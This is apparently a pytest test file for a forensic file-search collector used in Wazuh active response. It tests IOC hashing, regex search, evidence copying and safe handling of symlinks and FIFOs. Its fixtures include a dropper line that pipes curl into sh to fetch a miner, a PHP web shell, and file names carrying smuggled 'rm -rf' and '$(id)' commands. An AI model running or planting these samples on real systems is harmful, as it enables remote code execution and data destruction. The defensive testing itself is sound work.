"""The files collector: search by name, times, owner, permissions, IOC hash and content;
list, hash or copy; links, FIFOs, pseudo filesystems and oversized files handled."""
from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from ossec_dfir.collectors.base import build_params, get_collector
from ossec_dfir.collectors.files import search as fs
from ossec_dfir.errors import ConfigError
from tests.conftest import wait_collector_entry, AR_DIR, ar_env, evidence_path, make_request

NOW = time.time()
DAY = 86400.0


def wazuh_time(epoch: float) -> str:
    """Return epoch as a Wazuh alert timestamp (``2024-01-01T10:00:00.123+0000``)."""
    return datetime.fromtimestamp(epoch, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] \
        + "+0000"


def alert_request(filename: str | None = None, at: float = NOW):
    return make_request("127.0.0.2", alert_timestamp=wazuh_time(at), filename=filename)


def results(incident, outcome) -> list[dict]:
    rel = next(f for f in outcome.files if f.endswith("/results.jsonl"))
    text = evidence_path(incident, rel).read_text()
    return [json.loads(line) for line in text.splitlines()]


def by_name(records: list[dict]) -> dict[str, dict]:
    return {os.path.basename(r["path"]): r for r in records}


def write(path: Path, data: bytes, mtime: float | None = None, mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A small search root: old and recent files, a dropper, a setuid and a dot file."""
    root = tmp_path / "root"
    write(root / "old.txt", b"old and boring\n", NOW - 30 * DAY)
    write(root / "recent.log", b"written an hour before the alert\n", NOW - 3600)
    write(root / "sub" / "dropper.sh", b"#!/bin/sh\ncurl http://x/m | sh # xmrig\n", NOW - 60,
          0o755)
    write(root / "sub" / "deep" / ".hidden", b"dot file\n", NOW - 30 * DAY)
    write(root / "suid-helper", b"\x7fELF fake\n", NOW - 30 * DAY, 0o4755)
    write(root / "shared.cfg", b"anyone may write\n", NOW - 30 * DAY, 0o666)
    return root


def test_finds_files_by_mtime_window_relative_to_the_alert(run_collector, tree):
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "mtime_within_s": DAY, "action": "list",
                  "include_alert_file": False}, request=alert_request())
    assert outcome.outcome == "complete", outcome.reason
    found = by_name(results(incident, outcome))
    assert set(found) == {"recent.log", "dropper.sh"}
    assert outcome.summary["rejected_by"] == {"mtime_within_s": 4}
    assert outcome.summary["alert_time_source"] == "alert_timestamp"
    rec = found["dropper.sh"]
    assert rec["mode"] == "0755" and rec["uid"] == os.getuid() and rec["source"] == "search"
    assert rec["mtime_ns"] == (tree / "sub" / "dropper.sh").stat().st_mtime_ns
    assert "sha256" not in rec  # list: stat only, never read


def test_alert_window_moves_with_the_alert_time(run_collector, tree):
    # An alert 30 days ago with a 1-day window catches the old files, not the new ones.
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "mtime_within_s": DAY + 60, "action": "list"},
        request=alert_request(at=NOW - 30 * DAY + 60))
    found = by_name(results(incident, outcome))
    assert {"old.txt", ".hidden", "suid-helper", "shared.cfg"} <= set(found)


def test_finds_files_by_sha256_ioc_and_hashes_them(run_collector, tree):
    wanted = hashlib.sha256((tree / "sub" / "dropper.sh").read_bytes()).hexdigest()
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "sha256_iocs": [wanted.upper(), "0" * 64],
                  "action": "hash"}, request=alert_request())
    assert outcome.outcome == "complete", outcome.reason
    found = results(incident, outcome)
    assert [os.path.basename(r["path"]) for r in found] == ["dropper.sh"]
    assert found[0]["sha256"] == wanted and found[0]["ioc_match"] is True
    assert outcome.summary["rejected_by"] == {"sha256_iocs": 5}


def test_ioc_file_is_read_and_one_writable_by_others_is_refused(run_collector, tree, tmp_path):
    wanted = hashlib.sha256((tree / "old.txt").read_bytes()).hexdigest()
    iocs = tmp_path / "iocs.txt"
    iocs.write_text(f"# known bad\n{wanted}  old.txt\n\n")
    iocs.chmod(0o600)
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "sha256_ioc_file": str(iocs)}, request=alert_request())
    assert [os.path.basename(r["path"]) for r in results(incident, outcome)] == ["old.txt"]
    iocs.chmod(0o666)
    outcome, _ = run_collector(
        "files", {"roots": [str(tree)], "sha256_ioc_file": str(iocs)}, request=alert_request())
    assert outcome.outcome == "skipped"
    assert "not writable by group or others" in outcome.reason
    iocs.chmod(0o600)
    iocs.write_text("not-a-hash\n")
    with pytest.raises(ValueError, match="line 1: not a SHA-256"):
        fs.load_ioc_file(str(iocs))


def test_finds_files_by_name_regex_owner_and_permissions(run_collector, tree):
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "name_regex": r"\.(sh|log)$", "action": "list"},
        request=alert_request())
    assert set(by_name(results(incident, outcome))) == {"dropper.sh", "recent.log"}
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "permissions": ["setuid", "world_writable"],
                  "owners": ["root", str(os.getuid())], "action": "list"},
        request=alert_request())
    assert set(by_name(results(incident, outcome))) == {"suid-helper", "shared.cfg"}
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "owners": ["4242"], "action": "list"},
        request=alert_request())
    assert results(incident, outcome) == []
    assert outcome.summary["rejected_by"] == {"owners": 6}


def test_content_regex_and_path_globs(run_collector, tree):
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "content_regex": r"(?i)XMRIG|stratum\+tcp",
                  "path_globs": ["*/sub/*"]}, request=alert_request())
    found = results(incident, outcome)
    assert [os.path.basename(r["path"]) for r in found] == ["dropper.sh"]
    data = (tree / "sub" / "dropper.sh").read_bytes()
    assert found[0]["regex_match"] == {"offset": data.index(b"xmrig"), "text": "xmrig"}
    assert outcome.summary["rejected_by"] == {"content_regex": 1, "path_globs": 4}


def test_copy_preserves_content_hash_and_metadata(run_collector, tree):
    content = b"<?php system($_GET['c']); ?>\n" * 1000
    evil = write(tree / "evil name; rm -rf ~.php", content, NOW - 120, 0o640)
    src_st = evil.stat()
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "name_regex": r"\.php$", "action": "copy"},
        request=alert_request())
    assert outcome.outcome == "complete", outcome.reason
    assert evil.stat().st_atime_ns == src_st.st_atime_ns  # read with O_NOATIME
    (rec,) = results(incident, outcome)
    assert rec["evidence"] == "files/01/copies/0001-evil_name__rm_-rf__.php"
    copy = evidence_path(incident, rec["evidence"])
    original_sha = hashlib.sha256(content).hexdigest()
    assert copy.read_bytes() == content and rec["sha256"] == original_sha
    (entry,) = [e for e in incident.manifest()
                if e["type"] == "file" and e["path"] == rec["evidence"]]
    assert entry["sha256"] == original_sha and entry["outcome"] == "complete"
    meta = entry["meta"]
    assert meta["original_path"] == str(evil)
    assert (meta["mode"], meta["uid"], meta["gid"], meta["inode"]) == (
        "0640", src_st.st_uid, src_st.st_gid, src_st.st_ino)
    for key in ("atime", "mtime", "ctime"):
        assert meta[f"{key}_ns"] == getattr(src_st, f"st_{key}_ns")


def test_copy_byte_cap_truncates_and_degrades(run_collector, tmp_path):
    root = tmp_path / "big"
    write(root / "a.bin", b"A" * 3000)
    write(root / "b.bin", b"B" * 3000)
    write(root / "c.bin", b"C" * 10)
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "action": "copy", "max_copy_bytes": 4000},
        request=alert_request())
    assert outcome.outcome == "partial" and "max_copy_bytes=4000" in outcome.reason
    found = by_name(results(incident, outcome))
    assert found["a.bin"]["sha256"] == hashlib.sha256(b"A" * 3000).hexdigest()
    assert found["b.bin"]["copy_status"] == "truncated at max_copy_bytes=4000"
    assert found["b.bin"]["head_bytes"] == 1000 and "sha256" not in found["b.bin"]
    assert found["c.bin"]["copy_status"].startswith("not copied: max_copy_bytes")
    assert found["c.bin"]["sha256"] == hashlib.sha256(b"C" * 10).hexdigest()
    assert outcome.summary["copied_bytes"] == 4000
    partial = [e for e in incident.manifest() if e["type"] == "file"
               and e["path"].endswith("b.bin")]
    assert partial[0]["outcome"] == "partial" and partial[0]["size"] == 1000


def test_oversized_policy_skip_and_head(run_collector, tmp_path):
    root = tmp_path / "sizes"
    write(root / "small", b"x" * 100)
    write(root / "large", b"y" * 5000)
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "max_file_bytes": 1000, "content_regex": "y"},
        request=alert_request())
    assert results(incident, outcome) == []
    assert outcome.summary["walk"]["skipped"]["oversized"] == 1
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "max_file_bytes": 1000, "oversized_policy": "head"},
        request=alert_request())
    found = by_name(results(incident, outcome))
    assert found["large"]["sha256_head"] == hashlib.sha256(b"y" * 1000).hexdigest()
    assert found["large"]["head_bytes"] == 1000
    assert found["small"]["sha256"] == hashlib.sha256(b"x" * 100).hexdigest()


def test_symlink_out_of_the_root_is_not_followed_and_fifo_does_not_hang(
        run_collector, tmp_path):
    outside = write(tmp_path / "outside" / "secret.conf", b"MARKER outside\n")
    root = tmp_path / "scan"
    write(root / "inside.txt", b"MARKER inside\n")
    (root / "link-to-secret").symlink_to(outside)
    (root / "link-dir").symlink_to(outside.parent, target_is_directory=True)
    os.mkfifo(root / "pipe")
    started = time.monotonic()
    outcome, incident = run_collector(
        "files", {"roots": [str(root), str(root / "link-dir")], "content_regex": "MARKER",
                  "timeout_s": 20}, request=alert_request())
    assert time.monotonic() - started < 15
    assert outcome.outcome == "complete", outcome.reason
    assert [r["path"] for r in results(incident, outcome)] == [str(root / "inside.txt")]
    skipped = outcome.summary["walk"]["skipped"]
    assert skipped["symlink"] == 3 and skipped["special_file"] == 1


def test_alert_file_comes_first_once_and_pseudo_files_are_refused(run_collector, tree):
    alert_file = tree / "sub" / "dropper.sh"
    outcome, incident = run_collector(
        "files", {"roots": [str(tree)], "action": "hash"},
        request=alert_request(filename=str(alert_file)))
    found = results(incident, outcome)
    assert found[0]["path"] == str(alert_file) and found[0]["source"] == "alert"
    assert [r["path"] for r in found].count(str(alert_file)) == 1
    assert outcome.summary["walk"]["skipped"]["alert_file_again"] == 1
    (tree / "linked").symlink_to(alert_file.parent)
    outcome, incident = run_collector(
        "files", {"roots": [], "action": "hash", "include_alert_dir": False},
        request=alert_request(filename=str(tree / "linked" / "dropper.sh")))
    (rec,) = results(incident, outcome)
    assert rec["path"] == str(alert_file) and rec["alert_path"] == str(tree / "linked/dropper.sh")
    (tree / "link-file").symlink_to(alert_file)
    outcome, incident = run_collector(
        "files", {"roots": [], "include_alert_dir": False},
        request=alert_request(filename=str(tree / "link-file")))
    assert results(incident, outcome) == []
    assert outcome.summary["walk"]["skipped"] == {"alert_file_symlink": 1}
    outcome, incident = run_collector(
        "files", {"roots": [], "action": "copy", "include_alert_dir": False},
        request=alert_request(filename="/proc/self/environ"))
    assert results(incident, outcome) == []
    assert outcome.summary["walk"]["skipped"] == {"alert_file_on_pseudo_or_network_fs": 1}
    outcome, _ = run_collector("files", {"roots": []}, request=alert_request())
    assert outcome.outcome == "skipped" and "nothing to search" in outcome.reason


def test_pseudo_filesystem_roots_and_the_evidence_store_are_not_searched(
        run_collector, tmp_path, evidence_root):
    write(tmp_path / "plain.txt", b"data\n")
    outcome, incident = run_collector(
        "files", {"roots": ["/proc", "/sys/kernel", str(tmp_path)], "action": "list"},
        request=alert_request())
    paths = [r["path"] for r in results(incident, outcome)]
    assert str(tmp_path / "plain.txt") in paths
    assert not any(p.startswith(str(evidence_root)) for p in paths)
    skipped = outcome.summary["walk"]["skipped"]
    assert skipped["pseudo_or_network_fs"] == 2 and skipped["excluded"] >= 1


def test_limits_stop_the_search_and_say_why(run_collector, tmp_path):
    root = tmp_path / "many"
    for i in range(20):
        write(root / f"f{i:02d}", b"%d" % i)
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "action": "list", "max_files": 5},
        request=alert_request())
    assert len(results(incident, outcome)) == 5
    assert outcome.outcome == "partial" and "max_files=5" in outcome.reason
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "action": "list", "max_files": 20},
        request=alert_request())
    assert len(results(incident, outcome)) == 20 and outcome.outcome == "complete"
    outcome, incident = run_collector(
        "files", {"roots": [str(root)], "action": "list", "max_walk_files": 7},
        request=alert_request())
    assert len(results(incident, outcome)) == 7 and "max_walk_files=7" in outcome.reason


def test_params_are_validated_all_at_once():
    cls = get_collector("files")
    with pytest.raises(ConfigError) as err:
        build_params(cls, {"action": "delete", "name_regex": "(", "permissions": ["suid"],
                           "sha256_iocs": ["abc"], "roots": ["tmp"], "max_files": 0})
    text = str(err.value)
    for word in ("action", "name_regex", "permissions[0]", "sha256_iocs[0]", "roots[0]",
                 "max_files"):
        assert word in text
    assert build_params(cls, {}).action == "hash"


def test_alert_time_sources():
    assert fs.alert_time(make_request(alert_timestamp="2024-03-01T10:00:00.500+0100")) == (
        datetime(2024, 3, 1, 9, 0, 0, 500000, timezone.utc).timestamp(), "alert_timestamp")
    assert fs.alert_time(make_request(alert_id="1700000000.4242")) == (1700000000.0, "alert_id")
    req = make_request()
    assert fs.alert_time(req)[1] == "received"
    assert fs.evidence_name(7, "/tmp/../x/.. ;`$(id)`") == "0007-.._____id__"
    assert fs.stat_record("/tmp/\udcff", os.stat("/"))["path_hex"] == "2f746d702fff"


def test_active_response_executable_runs_the_profile(tmp_path, config_file, evidence_root, tree):
    config_file.write_text(config_file.read_text() + f"""
profiles:
  dfir-files:
    description: test search
    steps:
      - collector: files
        params:
          roots: ["{tree}"]
          name_regex: "^dropper"
          action: copy
""")
    alert_file = tree / "recent.log"
    argv = [str(AR_DIR / "dfir-files"), "add", "-", "127.0.0.9", "1700000000.1", "550",
            "ossec", str(alert_file)]
    proc = subprocess.run(argv, env=ar_env(config_file), capture_output=True, timeout=30,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    entry = wait_collector_entry(evidence_root, "127.0.0.9", "files")
    assert entry["outcome"] == "complete", entry["reason"]
    incident_dir = next(evidence_root.glob("*_127.0.0.9"))
    lines = (incident_dir / "files/01/results.jsonl").read_text().splitlines()
    # The alert's file is examined first (conditions still apply: it is no dropper).
    assert [json.loads(x)["path"] for x in lines] == [str(tree / "sub" / "dropper.sh")]
    assert entry["summary"]["rejected_by"]["name_regex"] == 5
    assert entry["summary"]["walk"]["skipped"]["alert_file_again"] == 1
    assert stat.S_IMODE(os.stat(AR_DIR / "dfir-files").st_mode) == 0o755
